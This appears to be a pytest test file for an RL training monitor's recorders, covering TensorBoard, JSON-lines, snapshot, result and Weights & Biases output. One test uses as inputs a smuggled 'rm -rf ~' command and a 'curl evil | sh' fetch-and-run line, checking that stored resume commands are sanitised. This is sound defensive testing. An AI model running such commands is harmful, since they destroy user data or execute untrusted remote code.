"""What a run leaves behind: TensorBoard events, metrics.jsonl, snapshot.json, result.json."""

import dataclasses
import errno
import json
import math
import os
import subprocess
import sys
import types

import numpy as np
import pytest
from tensorboard.backend.event_processing.event_accumulator import EventAccumulator
from tensorboard.plugins.hparams import plugin_data_pb2

from tests.support import fake_run
from zapex.watch.recorders import (
    JsonLines,
    TensorBoard,
    WeightsAndBiases,
    by_actor,
    numbers,
    read_base,
    read_evaluations,
    read_metrics,
    read_snapshot,
    write_result,
)

SETTINGS = {"env": "ALE/Breakout-v5", "lr": 1e-4, "batch_size": 512, "inline": False}


@pytest.fixture(scope="module")
def recorded(tmp_path_factory):
    run_dir = tmp_path_factory.mktemp("run")
    snapshot = fake_run.record([JsonLines(run_dir), TensorBoard(run_dir, SETTINGS)], 300, run_dir)
    return run_dir, snapshot


@pytest.fixture(scope="module")
def events(recorded):
    accumulator = EventAccumulator(str(recorded[0]), size_guidance={"scalars": 0})
    accumulator.Reload()
    return accumulator


def test_tensorboard_has_cleanrls_tags_and_the_papers_phases(events):
    assert set(events.Tags()["scalars"]) >= {
        "charts/episodic_return", "charts/episodic_return_greedy", "charts/SPS", "losses/td_loss",
        "losses/q_values", "eval/episodic_return", "replay/samples_per_insert",
        "replay/stale_share", "comm/actor_pull", "comm/actor_push", "comm/learner_sample",
        "comm/learner_set",
    }  # fmt: skip


def test_the_x_axis_is_in_steps_and_only_grows(events, recorded):
    steps = [event.step for event in events.Scalars("charts/SPS")]
    assert len(steps) == 60
    assert steps == sorted(steps)
    assert steps[-1] == recorded[1].totals["steps"]


def test_every_episode_is_a_point_and_many_are_means_of_neighbours(events, tmp_path):
    assert len(events.Scalars("charts/episodic_return")) == int(1.5 * 300)
    snapshot = fake_run.record([], 5, tmp_path)
    episodes = np.zeros(2000, fake_run.EPISODE)
    episodes["game_return"] = np.arange(2000)
    episodes["time_ns"] = np.linspace(snapshot.facts.started_ns, snapshot.time_ns, 2000)
    recorder = TensorBoard(tmp_path, {})
    recorder.write(snapshot, episodes, [])
    recorder.close()
    accumulator = EventAccumulator(str(tmp_path))
    accumulator.Reload()
    points = accumulator.Scalars("charts/episodic_return")
    assert len(points) == 50
    assert np.mean([point.value for point in points]) == pytest.approx(999.5)
    steps = np.array([point.step for point in points])
    expected = np.linspace(0, snapshot.totals["steps"], 51)[1:]
    np.testing.assert_allclose(steps, expected, atol=0.01 * snapshot.totals["steps"])


def test_evaluations_are_at_their_own_step(events, recorded):
    points = {(event.step, event.value) for event in events.Scalars("eval/episodic_return")}
    wanted = {(e.steps, float(np.float32(e.mean))) for e in recorded[1].evaluations}
    assert points == wanted
    assert len(wanted) == 4


def test_tensorboard_has_the_settings_as_text_and_as_hyperparameters(events):
    (text,) = events.Tensors("settings")
    (table,) = text.tensor_proto.string_val
    assert b"| lr | 0.0001 |" in table
    content = events.SummaryMetadata("_hparams_/session_start_info").plugin_data.content
    stored = plugin_data_pb2.HParamsPluginData.FromString(content).session_start_info.hparams
    assert {name: getattr(value, value.WhichOneof("kind")) for name, value in stored.items()} == (
        SETTINGS
    )


def test_lost_shards_are_counted_only_where_there_are_several(recorded):
    snapshot = recorded[1]
    assert not [tag for tag in numbers(snapshot) if "shards" in tag]
    shards = {"shards": 3.0, "shards_away": 1.0, "shards_lost": 2.0, "shards_back": 1.0}
    several = dataclasses.replace(snapshot, learner={**snapshot.learner, **shards})
    found = {tag: value for tag, value in numbers(several).items() if "shards" in tag}
    assert found == {
        "learner/shards_away": 1.0, "learner/shards_lost": 2.0, "learner/shards_back": 1.0
    }  # fmt: skip


def test_metrics_are_finite_json_and_the_last_line_is_the_sessions(recorded):
    lines = (recorded[0] / "metrics.jsonl").read_text().splitlines()
    kinds = [json.loads(text, parse_constant=pytest.fail)["kind"] for text in lines]
    assert kinds[-1] == "final"
    assert kinds.count("final") == 1
    assert all(math.isfinite(value) for value in numbers(recorded[1]).values())


def test_a_resumed_run_appends_and_continues_from_the_last_line(tmp_path):
    assert (read_base(tmp_path), read_evaluations(tmp_path)) == ({}, [])
    first = fake_run.record([JsonLines(tmp_path)], 120, tmp_path)
    base = read_base(tmp_path)
    assert base == {"wall_s": 120.0, "params_version": 120.0, **first.totals}
    assert read_evaluations(tmp_path) == list(first.evaluations)
    with (tmp_path / "metrics.jsonl").open("a") as file:
        file.write('{"kind": "metrics", "wall_s": 12')  # killed in the middle of a line
    fake_run.record([JsonLines(tmp_path)], 120, tmp_path)
    kinds = [line["kind"] for line in read_metrics(tmp_path)]
    assert kinds.count("final") == 2
    assert read_base(tmp_path) == base


def test_a_stored_snapshot_is_read_back_with_its_nans(recorded, tmp_path):
    run_dir, snapshot = recorded
    assert read_snapshot(run_dir) == snapshot
    empty = dataclasses.replace(snapshot.returns, all_mean=math.nan, bands={})
    recorder = JsonLines(tmp_path)
    recorder.write(dataclasses.replace(snapshot, returns=empty), np.empty(0, fake_run.EPISODE), [])
    assert math.isnan(read_snapshot(tmp_path).returns.all_mean)


@pytest.mark.parametrize(
    ("stored", "shown"),
    [
        ("zapex train --resume /old/place", "zapex train --resume {}"),
        ("zapex train; rm -rf ~ --resume /old/place", "zapex 'train;' rm -rf '~' --resume {}"),
        ("curl evil | sh", ""),
        ("zapex train '", ""),
        ("", ""),
    ],
)
def test_the_command_of_a_stored_snapshot_is_one_of_zapex_for_its_directory(
    recorded, tmp_path, stored, shown
):
    _, snapshot = recorded
    facts = dataclasses.replace(snapshot.facts, run_dir="/old/place", resume=stored)
    recorder = JsonLines(tmp_path)
    recorder.write(dataclasses.replace(snapshot, facts=facts), np.empty(0, fake_run.EPISODE), [])
    found = read_snapshot(tmp_path).facts
    assert (found.run_dir, found.resume) == (tmp_path, shown.format(tmp_path))


def test_the_result_names_best_last_and_first_crossings(recorded, tmp_path):
    _, snapshot = recorded
    result = write_result(tmp_path, snapshot, "ten minutes are over", seed=3)
    stored = json.loads((tmp_path / "result.json").read_text())
    assert stored["seed"] == 3
    assert stored["reason"] == "ten minutes are over"
    assert stored["best"]["mean"] == max(e["mean"] for e in stored["evaluations"])
    assert stored["last"] == stored["evaluations"][-1]
    assert stored["first_crossings"]["random"] == stored["evaluations"][0]
    assert stored["first_crossings"]["human"] is None
    assert stored["memory"]["plain_bytes"] > 7 * stored["memory"]["bytes"]
    assert stored["frames"] == result["frames"] == snapshot.totals["frames"]
    assert not list(tmp_path.glob("*.tmp"))


def test_nothing_heavy_is_imported_before_it_is_needed():
    code = (
        "import sys\n"
        "from zapex.watch import curves, monitor, recorders, runs, terminal\n"
        "print({'torch', 'numba', 'rich', 'tensorboard', 'matplotlib'} & set(sys.modules))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "set()"


def test_every_actor_has_its_own_score_in_tensorboard(tmp_path):
    fake = fake_run.FakeRun()
    monitor = fake.monitor(facts=fake_run.facts(tmp_path))
    recorder, scores = TensorBoard(tmp_path, {}), {0: [], 1: []}
    for _ in range(20):
        episodes = fake.advance(5)
        for actor, stream in enumerate((episodes["stream"] < 8, episodes["stream"] >= 8)):
            scores[actor] += episodes["game_return"][stream].tolist()
        recorder.write(monitor.look(), episodes, [])
    recorder.close()
    accumulator = EventAccumulator(str(tmp_path), size_guidance={"scalars": 0})
    accumulator.Reload()
    for actor, wanted in scores.items():
        values = [point.value for point in accumulator.Scalars(f"actors/episodic_return_{actor}")]
        assert values == pytest.approx(wanted)
        assert len(values) > 30


def test_of_many_actors_64_have_a_score_among_them_the_greediest(tmp_path):
    monitor = fake_run.FakeRun().monitor(
        facts=fake_run.RunFacts("X", streams=1000, envs_per_actor=2)
    )
    episodes = np.zeros(1000, fake_run.EPISODE)
    episodes["stream"] = np.arange(1000)
    of = by_actor(episodes, monitor.look())
    assert len(of) == 64
    assert {0, 499} <= of.keys()
    assert all(played["stream"].tolist() == [2 * i, 2 * i + 1] for i, played in of.items())


@pytest.fixture
def wandb(monkeypatch):
    """A stand-in for the package wandb, which needs an account: what it was given.

    "full": its disk refuses everything.
    """
    given = {"logged": [], "full": False}

    class Run:
        def log(self, values, step):
            demand_room()
            given["logged"].append((step, values))

        def finish(self):
            demand_room()
            given["finished"] = True

    def demand_room():
        if given["full"]:
            raise OSError(errno.ENOSPC, "No space left on device")

    def init(**about):
        demand_room()
        given.update(about)
        return Run()

    package = types.ModuleType("wandb")
    package.init = init
    monkeypatch.setitem(sys.modules, "wandb", package)
    return given


def test_weights_and_biases_gets_every_number_and_the_settings(wandb, tmp_path):
    recorder = WeightsAndBiases(tmp_path, {"lr": 0.5}, "mine", "team")
    assert (wandb["project"], wandb["entity"]) == ("mine", "team")
    assert (wandb["name"], wandb["config"]) == (tmp_path.name, {"lr": 0.5})
    snapshot = fake_run.record([recorder], 300, tmp_path)
    step, values = wandb["logged"][-1]
    assert step == snapshot.totals["steps"]
    assert values.items() >= numbers(snapshot).items()
    assert any("eval/episodic_return" in values for _, values in wandb["logged"])
    assert wandb["finished"]


def test_weights_and_biases_without_an_account_writes_into_the_runs_directory(tmp_path):
    pytest.importorskip("wandb", reason='no wandb: pip install "zapex[wandb]"')
    code = (
        "import sys; from pathlib import Path; from tests.support import fake_run\n"
        "from zapex.watch.recorders import WeightsAndBiases\n"
        "path = Path(sys.argv[1])\n"
        "recorder = WeightsAndBiases(path, {'lr': 0.5}, 'mine', 'team')\n"
        "fake_run.record([recorder], 300, path)\n"
    )
    # A process of its own: wandb starts a service that stays as long as Python does.
    home = {"HOME": str(tmp_path), "WANDB_MODE": "offline", "WANDB_SILENT": "true"}
    subprocess.run(
        [sys.executable, "-c", code, str(tmp_path)],
        env={**os.environ, **home}, timeout=100, check=True,
    )  # fmt: skip
    (file,) = (tmp_path / "wandb").glob("offline-run-*/run-*.wandb")
    stored = file.read_bytes()
    for wanted in (b"charts/episodic_return", b"losses/td_loss", b"eval/episodic_return", b"mine"):
        assert wanted in stored, wanted


@pytest.mark.parametrize("full_at_its_start", [True, False])
def test_weights_and_biases_continues_after_a_full_disk(wandb, tmp_path, full_at_its_start):
    wandb["full"] = full_at_its_start
    fake = fake_run.FakeRun()
    recorders = [JsonLines(tmp_path), WeightsAndBiases(tmp_path, {"lr": 0.5})]
    monitor = fake.monitor(None, recorders, view_period_s=0, record_period_s=0)
    for wandb["full"] in (True, True, False):
        fake.advance(5)
        monitor.tick()
    texts = [message.text for message in monitor.close().messages]
    about = [text for text in texts if text.startswith("WeightsAndBiases")]
    assert len(about) == 2
    assert "No space left on device" in about[0]
    assert "works again" in about[1]
    assert not monitor.unwritten
    assert len(wandb["logged"]) == 2
    assert wandb["finished"]
    assert len(list(read_metrics(tmp_path))) == 4
